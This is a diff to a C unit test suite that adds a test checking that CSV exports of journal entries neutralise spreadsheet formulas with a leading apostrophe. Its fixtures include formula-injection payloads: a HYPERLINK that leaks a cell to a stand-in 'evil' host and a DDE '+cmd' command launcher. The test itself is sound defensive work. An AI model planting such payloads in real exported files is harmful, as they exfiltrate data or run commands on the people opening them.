@@ -556,6 +556,57 @@ static int last_cb(int64_t s, const char *content, const char *h, void *x)
 	return 0;
 }
 
+/* A reason that a spreadsheet would evaluate (=HYPERLINK, +cmd, -, @)
+ * is exported in CSV with a leading apostrophe, as zonectl show --format
+ * csv does; the JSON export keeps it exact. */
+static void test_csv_formulas(void)
+{
+	static const char *const reasons[] = {
+		"=HYPERLINK(\"http://evil/?\"&A1,\"click\")",
+		"+cmd|' /C calc'!A0",
+		"-2+3",
+		"@SUM(1,2)",
+		"plain reason",
+	};
+	struct zw_journal *j = fresh();
+	struct zw_jprint p;
+	char *buf = NULL;
+	size_t len = 0;
+	FILE *mem;
+	static char f[32][512];
+	const char *cur;
+
+	for (size_t i = 0; i < 5; i++)
+		add(j, ZW_JA_COMMIT, NULL, reasons[i], 0);
+	mem = open_memstream(&buf, &len);
+	zw_jprint__begin(&p, mem, ZW_JF_CSV);
+	CU_ASSERT_EQUAL(zw_journal__foreach(j, NULL, zw_jprint__cb, &p), 0);
+	zw_jprint__end(&p);
+	fclose(mem);
+	cur = buf;
+	CU_ASSERT_EQUAL(csv_record(&cur, f, 32), 17);
+	for (size_t i = 0; i < 5; i++) {
+		char want[600];
+
+		snprintf(want, sizeof(want), "%s%s", i < 4 ? "'" : "", reasons[i]);
+		CU_ASSERT_EQUAL(csv_record(&cur, f, 32), 17);
+		if (strcmp(f[10], want))
+			fprintf(stderr, "\ncsv reason %s, wanted %s\n", f[10], want);
+		CU_ASSERT_STRING_EQUAL(f[10], want);
+	}
+	free(buf);
+
+	buf = NULL;
+	mem = open_memstream(&buf, &len);
+	zw_jprint__begin(&p, mem, ZW_JF_JSON);
+	CU_ASSERT_EQUAL(zw_journal__foreach(j, NULL, zw_jprint__cb, &p), 0);
+	zw_jprint__end(&p);
+	fclose(mem);
+	CU_ASSERT_PTR_NOT_NULL(strstr(buf, "\"reason\": \"=HYPERLINK("));
+	free(buf);
+	zw_journal__free(j);
+}
+
 static void test_query_filters(void)
 {
 	struct zw_journal *j = fresh();
@@ -843,6 +894,7 @@ int main(void)
 	CU_add_test(s, "retention and archive", test_retention_and_archive);
 	CU_add_test(s, "archive record removed", test_archive_removed);
 	CU_add_test(s, "csv and json exports parse back", test_exports);
+	CU_add_test(s, "csv cells are no formulas", test_csv_formulas);
 	CU_add_test(s, "query filters", test_query_filters);
 	CU_add_test(s, "transaction abort", test_transaction_abort);
 	CU_add_test(s, "clock state recorded", test_clock_state_recorded);
